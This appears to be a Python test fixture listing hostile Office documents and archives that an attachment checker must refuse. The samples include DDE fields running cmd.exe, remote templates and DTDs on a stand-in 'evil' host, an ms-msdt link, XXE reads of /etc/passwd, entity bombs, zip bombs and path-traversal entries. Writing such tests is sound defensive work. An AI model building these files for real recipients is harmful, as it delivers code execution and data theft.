"""Documents and archives that must not stay, each with the reason they are refused for."""

from __future__ import annotations

import io
import struct
import zipfile

from tests.attachments.making import archive, docx, pptx, with_parts, xlsx, zeros

Sample = tuple[str, str, bytes, str]
"""What it is, the name it comes under, its bytes, the reason expected."""
TYPES = "[Content_Types].xml"
_TENFOLD = [f"&a{n - 1 if n else ''};" * 10 for n in range(9)]
_DOUBLED = "".join(f'<!ENTITY a{n} "{text}">' for n, text in enumerate(_TENFOLD))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">{_DOUBLED}]><a>&a8;</a>'
OUTSIDE = '<Relationships><Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
BLOWN_UP = '<!DOCTYPE a [<!ENTITY x "' + "x" * 9000 + '">]><a>' + "&x;" * 9000 + "</a>"
DEEP = "<a>" * 20_000 + "</a>" * 20_000


def _word(name: str, parts: dict[str, str | bytes], reason: str, **changed: tuple[str, str]) -> Sample:
    return name, "技术方案.docx", with_parts(docx(), parts, changed=changed or None), reason


def _field(text: str) -> bytes:
    run = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in text.split("|"))
    return with_parts(docx("占位"), {}, changed={"word/document.xml": ("<w:t>占位</w:t>", f"</w:r>{run}<w:r>")})


def _lied(document: bytes, *, at: int, value: int) -> bytes:
    """The document with a number of its first entry in the central directory overwritten."""
    place = document.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", document[place + 16 : place + 20])[0]
    return document[: start + at] + struct.pack("<I", value) + document[start + at + 4 :]


def _overlapping() -> bytes:
    """Many entries of the table of contents that all point at one packed part (Fifield, 2019)."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr(TYPES, "<Types/>")
        book.writestr("a.xml", zeros(3))
        first = book.getinfo("a.xml")
        for number in range(50):
            twin = zipfile.ZipInfo(f"b{number}.xml")
            for name in ("CRC", "compress_size", "file_size", "header_offset", "compress_type", "flag_bits"):
                setattr(twin, name, getattr(first, name))
            book.filelist.append(twin)
            book.NameToInfo[twin.filename] = twin
    return made.getvalue()


def _locked() -> bytes:
    """The mark of a password on the first entry."""
    document = docx()
    place = document.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", document[place + 16 : place + 20])[0]
    return document[: start + 8] + b"\x01\x00" + document[start + 10 :]


def _nested(depth: int) -> bytes:
    inner = xlsx()
    for _ in range(depth):
        inner = with_parts(xlsx(), {"xl/embeddings/inner.xlsx": inner})
    return with_parts(docx(), {"word/embeddings/table.xlsx": inner})


def documents() -> list[Sample]:
    """Every hostile document."""
    macro = ("wordprocessingml.document.main+xml", "wordprocessingml.document.macroEnabled.main+xml")
    macro_types = "application/vnd.openxmlformats-officedocument." + macro[0]
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
    return [
        _word("a macro project", {"word/vbaProject.bin": b"\xcc\x61\xff"}, "macro"),
        _word("a macro project spelt otherwise", {"word/VBAPROJECT.BIN": b"\xcc\x61\xff"}, "macro"),
        _word("macro data", {"word/vbaData.xml": "<a/>"}, "macro"),
        _word("a control", {"word/activeX/activeX1.xml": "<a/>"}, "macro"),
        _word("a changed ribbon", {"customUI/customUI.xml": "<a/>"}, "macro"),
        ("a .docm under .docx", "a.docx", with_parts(docx(), {}, changed={TYPES: (macro_types, "application/vnd.ms-word.document.macroEnabled.main+xml")}), "macro"),
        ("a macro sheet", "a.xlsx", with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
        ("a dialogue sheet", "a.xlsx", with_parts(xlsx(), {"xl/dialogsheets/sheet1.xml": "<a/>"}), "macro"),
        ("a link to another workbook", "a.xlsx", with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": "<a/>"}), "outside"),
        ("a DDE link", "a.xlsx", with_parts(xlsx(), {"xl/links.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), "outside"),
        ("a DDE field", "a.docx", _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "outside"),
        ("a DDE field cut into pieces", "a.docx", _field('D|DE|AUTO c:\\\\cmd.exe "/k calc"'), "outside"),
        ("a field that fetches a picture", "a.docx", _field('INCLUDEPICTURE "http://evil/x.png"'), "outside"),
        _word("a template from outside", {"word/_rels/settings.xml.rels": OUTSIDE.format(kind="attachedTemplate", target="http://evil/t.dotm")}, "outside"),
        _word("a frame from outside", {"word/_rels/frame.xml.rels": OUTSIDE.format(kind="frame", target="http://evil/")}, "outside"),
        _word("a picture from outside", {"word/_rels/pic.xml.rels": OUTSIDE.format(kind="image", target="\\\\evil\\share\\x.png")}, "outside"),
        _word("an object from outside", {"word/_rels/o.xml.rels": OUTSIDE.format(kind="oleObject", target="mhtml:http://evil/x.html!x-usc:http://evil")}, "outside"),
        _word("a link that runs", {"word/_rels/l.xml.rels": OUTSIDE.format(kind="hyperlink", target="ms-msdt:/id PCWDiagnostic")}, "outside"),
        _word("a page inside", {"word/afchunk.html": "<html><script>1</script></html>"}, "mixed"),
        _word("a chunk of another kind", {"word/_rels/c.xml.rels": '<Relationships><Relationship Id="r" Type="x/aFChunk" Target="afchunk.xml"/></Relationships>'}, "mixed"),
        _word("a program inside", {"word/embeddings/setup.exe": b"MZ" + b"\0" * 100}, "mixed"),
        _word("a program under a picture's name", {"word/media/image9.png": b"MZ" + b"\0" * 100}, "mixed"),
        _word("an archive under a picture's name", {"word/media/image9.png": archive({"a": "b"})}, "mixed"),
        _word("an OLE object", {"word/embeddings/oleObject1.bin": old}, "mixed"),
        _word("a script inside", {"word/x.js": "alert(1)"}, "mixed"),
        _word("an archive inside", {"word/embeddings/more.zip": archive({"a": "b"})}, "mixed"),
        _word("a huge picture inside", {"word/media/image9.png": b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR" + struct.pack(">II", 60_000, 60_000) + b"\x08\0\0\0\0"}, "bomb"),
        _word("a billion laughs", {"word/laughs.xml": LAUGHS}, "bomb"),
        _word("a quadratic blow-up", {"word/laughs.xml": BLOWN_UP}, "bomb"),
        _word("an entity from a file", {"word/x.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}, "bomb"),
        _word("a parameter entity", {"word/x.xml": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil/x.dtd"> %x;]><a/>'}, "bomb"),
        _word("entities in UTF-16", {"word/x.xml": LAUGHS.replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16")}, "bomb"),
        _word("endless depth", {"word/deep.xml": DEEP}, "bomb"),
        _word("broken XML", {"word/x.xml": "<a><b></a>"}, "broken"),
        _word("a part that unpacks 1000 to 1", {"word/zeros.xml": zeros(30)}, "bomb"),
        ("many parts that unpack 200 to 1", "a.docx", with_parts(docx(), {f"word/z{n}.xml": zeros(3) for n in range(110)}, level=1), "bomb"),
        ("too many entries", "a.docx", archive({TYPES: "<Types/>", **{f"x{n}.xml": "<a/>" for n in range(5_100)}}, how=zipfile.ZIP_STORED), "bomb"),
        ("entries over one another", "a.docx", _overlapping(), "bomb"),
        ("documents in documents in documents", "a.docx", _nested(2), "bomb"),
        ("a size that lies low", "a.docx", _lied(docx(), at=24, value=10), "broken"),
        ("a place that lies", "a.docx", _lied(docx(), at=42, value=5), "mixed"),
        _word("a way out of the folder", {"../../evil.xml": "<a/>"}, "broken"),
        _word("an absolute way", {"/etc/evil.xml": "<a/>"}, "broken"),
        _word("a way with backslashes", {"word\\..\\..\\evil.xml": "<a/>"}, "broken"),
        _word("one name twice but for case", {"WORD/document.xml": "<a/>"}, "broken"),
        ("a page before the archive", "a.docx", b"<html><script>alert(1)</script></html>" + docx(), "unknown"),
        ("bytes before the archive", "a.docx", b"PK\x03\x04" + b"junk" * 9 + docx(), "mixed"),
        ("bytes behind the archive", "a.docx", docx() + b"<script>alert(1)</script>", "mixed"),
        ("an archive that ends early", "a.docx", docx()[:-60], "broken"),
        ("a password's mark", "a.docx", _locked(), "locked"),
        ("encrypted Office", "a.docx", old + "EncryptedPackage".encode("utf-16-le"), "locked"),
        ("an old .doc", "a.doc", old, "old"),
        ("an old .xls under .xlsx", "a.xlsx", old, "old"),
        ("a plain zip", "a.zip", archive({"a.txt": "b"}), "archive"),
        ("a zip under .docx", "a.docx", archive({"a.txt": "b"}), "archive"),
        ("a jar", "a.jar", archive({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"}), "archive"),
        ("an apk", "a.apk", archive({"AndroidManifest.xml": b"\x03\0", "classes.dex": b"dex\n"}), "archive"),
        ("an empty zip", "a.zip", b"PK\x05\x06" + b"\0" * 18, "archive"),
        ("an OpenDocument", "a.odt", archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}), "archive"),
        ("Word content under .xlsx", "a.xlsx", docx(), "ending"),
        ("a workbook under .pdf", "a.pdf", xlsx(), "ending"),
        ("slides under .docx", "a.docx", pptx(), "ending"),
    ]  # fmt: skip
